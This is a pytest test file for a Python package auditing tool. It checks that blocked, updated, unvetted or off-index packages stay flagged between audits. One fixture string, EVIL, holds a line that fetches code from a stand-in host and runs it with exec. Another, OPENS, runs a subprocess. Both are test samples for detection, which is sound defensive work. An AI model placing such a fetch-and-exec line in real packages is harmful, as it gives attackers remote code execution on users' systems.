"""What comes into a place between two audits is vetted; what was said of it stands until it is settled."""

from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from world.build import wheel
from world.front import Front, Said
from world.index import FakeIndex
from world.sites import export, install, record

EVIL = "import os, urllib.request\nexec(urllib.request.urlopen('https://x.example.invalid/a').read())\n"
OPENS = "def look():\n    import subprocess\n    subprocess.run(['id'])\n"
"""Worth a finding that the policy lets pass."""


@pytest.fixture
def place(front: Front, tmp_path: Path, index: FakeIndex) -> Path:
    """An environment with one sound package, advisories, and an audit of it."""
    exported = export(tmp_path / "export", record("OSV-0", "sound", fixed="0.1"))
    assert front("db", "update", "--from", str(exported)).code == 0
    folder = front.cwd / "env"
    publish(index, "sound", "1.0")
    install(folder, "sound", "1.0")
    assert front("audit").code == 0
    return folder


def publish(index: FakeIndex, name: str, version: str, code: str = "VALUE = 1\n") -> None:
    index.publish(name, version, [wheel(name, version, {f"{name}.py": code})])


def reasons(said: Said) -> list[Mapping[str, Any]]:
    return [one for one in said.verdict["reasons"] if one["decision"] != "allow"]


def vetted(said: Said) -> dict[str, str]:
    rows = said.report["inventory"]["vetted"]
    return {f"{one['name']} {one['version']}": one["decision"] for one in rows}


def test_a_blocked_newcomer_stays_blocked(front: Front, place: Path, index: FakeIndex) -> None:
    publish(index, "worse", "1.0", EVIL)
    install(place, "worse", "1.0")
    assert front("audit").code == 1
    again = front("audit", "--format", "json")
    assert again.code == 1
    assert vetted(again) == {"worse 1.0": "block"}


def test_nor_is_it_forgotten_if_it_is_not_vetted_again(
    front: Front, place: Path, index: FakeIndex
) -> None:
    publish(index, "worse", "1.0", EVIL)
    install(place, "worse", "1.0")
    assert front("audit").code == 1
    for _ in range(2):
        off = front("audit", "--vet-new", "0", "--format", "json")
        assert off.code == 1
        (reason,) = [one for one in reasons(off) if one["rule"] == "vetted"]
        assert reason["message"].startswith("worse 1.0 was block when it was vetted")
        assert "ostiary vet pypi:worse@1.0" in reason["remedy"]
    index.refuse()
    front.forget()
    assert front("audit").code == 1


def test_it_counts_until_it_is_gone(front: Front, place: Path, index: FakeIndex) -> None:
    publish(index, "worse", "1.0", EVIL)
    install(place, "worse", "1.0")
    assert front("audit").code == 1
    info = place / "worse-1.0.dist-info"
    for file in info.iterdir():
        file.unlink()
    info.rmdir()
    (place / "worse.py").unlink(missing_ok=True)
    said = front("audit", "--format", "json")
    assert vetted(said) == {}
    assert "worse 1.0 was" not in said.grounds


def test_one_that_nobody_can_vet_waits_for_somebody(
    front: Front, place: Path, index: FakeIndex
) -> None:
    install(place, "in-house", "1.0")
    for _ in range(3):
        said = front("audit", "--format", "json")
        assert said.code == 3
        assert "in-house 1.0" in said.grounds
    front("baseline", "set", "--reason", "ours", "--by", "ann")
    settled = front("audit", "--format", "json")
    assert settled.code == 0, settled.grounds
    install(place, "in-house", "1.1")
    assert front("audit").code == 3


def test_what_an_update_brings_is_vetted(front: Front, place: Path, index: FakeIndex) -> None:
    publish(index, "sound", "2.0", EVIL)
    _update(place)
    said = front("audit", "--format", "json")
    assert said.code == 1
    assert vetted(said) == {"sound 2.0": "block"}
    assert "sound 2.0 (updated)" in said.grounds
    assert front("audit", "--new-only").code == 0


def test_an_update_counts_as_new(front: Front, place: Path, index: FakeIndex) -> None:
    publish(index, "sound", "2.0", EVIL)
    _update(place)
    assert front("audit", "--new-only").code == 1


def _update(place: Path) -> None:
    info = place / "sound-1.0.dist-info"
    for file in info.iterdir():
        file.unlink()
    info.rmdir()
    install(place, "sound", "2.0")


def test_the_queue_goes_on_where_it_stopped(front: Front, place: Path, index: FakeIndex) -> None:
    for name in ("one", "two", "three"):
        publish(index, name, "1.0")
        install(place, name, "1.0")
    first = front("audit", "--vet-new", "2", "--format", "json")
    assert first.code == 3
    assert sorted(vetted(first).values()) == ["allow", "allow", "insufficient"]
    second = front("audit", "--vet-new", "2", "--format", "json")
    assert second.code == 0
    assert set(vetted(second).values()) == {"allow"}


def test_findings_of_a_vetting_are_not_fixed_by_a_second_look(
    front: Front, place: Path, index: FakeIndex
) -> None:
    publish(index, "opener", "1.0", OPENS)
    install(place, "opener", "1.0")
    first = front("audit", "--format", "json")
    assert first.checks
    second = front("audit", "--format", "json")
    assert second.report["inventory"]["changes"]["fixed_findings"] == []
    assert "nothing" in front("audit").out


def test_a_newcomer_counts_wherever_it_is(front: Front, place: Path, index: FakeIndex) -> None:
    other = front.cwd / "other"
    install(other, "sound", "1.0")
    assert front("audit", "env", "other").code == 0
    publish(index, "worse", "1.0", EVIL)
    for folder in (place, other):
        install(folder, "worse", "1.0")
    said = front("audit", "env", "other", "--format", "json")
    places = [one for one in said.report["verdicts"] if one["subject"].startswith("pkg:generic/")]
    assert [one["decision"] for one in places] == ["block", "block"]


@pytest.mark.parametrize(
    ("origin", "where"),
    [
        (
            '{"url": "https://a.example.invalid/b", "vcs_info": {"vcs": "git", "commit_id": "a1"}}',
            "a repository",
        ),
        ('{"url": "file:///srv/wheels/elsewhere-1.0.whl", "archive_info": {}}', "an address"),
    ],
)
def test_what_no_index_brings_waits_for_a_baseline(
    front: Front, place: Path, index: FakeIndex, origin: str, where: str
) -> None:
    publish(index, "elsewhere", "1.0")
    install(place, "elsewhere", "1.0")
    (place / "elsewhere-1.0.dist-info" / "direct_url.json").write_text(origin)
    said = front("audit", "--format", "json")
    assert f"elsewhere 1.0 is new and was not vetted: it comes from {where}" in said.grounds
    assert said.code == 3


def test_nor_is_a_path_of_a_lock_a_release_of_that_name(
    front: Front, place: Path, index: FakeIndex
) -> None:
    publish(index, "elsewhere", "1.0")
    rows = 'name = "elsewhere"\nversion = "1.0"\ndirectory = { path = "../beside" }\n'
    head = 'lock-version = "1.0"\ncreated-by = "sample"\n\n'
    (place / "pylock.toml").write_text(f"{head}[[packages]]\n{rows}")
    said = front("audit", "--format", "json")
    assert "elsewhere 1.0 is new and was not vetted: it comes from a path" in said.grounds
    assert said.code == 3


def test_a_waiver_of_a_newcomer_is_no_idle_one(front: Front, place: Path, index: FakeIndex) -> None:
    publish(index, "worse", "1.0", EVIL)
    install(place, "worse", "1.0")
    blocked = front("audit", "--no-record", "--format", "json")
    checks = {one["check"] for one in reasons(blocked) if one["fingerprint"]}
    about = """subject = "pkg:pypi/worse@1.0"
status = "not_affected"
justification = "component_not_present"
reason = "ours"
owner = "ann"
expires = 2026-07-01
"""
    rows = [f'[[waiver]]\ncheck = "{check}"\n{about}' for check in sorted(checks)]
    (front.cwd / "policy.toml").write_text('extends = "balanced"\n' + "\n".join(rows))
    said = front("audit", "--policy", "policy.toml", "--format", "json")
    assert said.code != 2, said.err
    notes = [one for one in said.verdict["reasons"] if one["rule"] == "waiver-unused"]
    assert notes == []
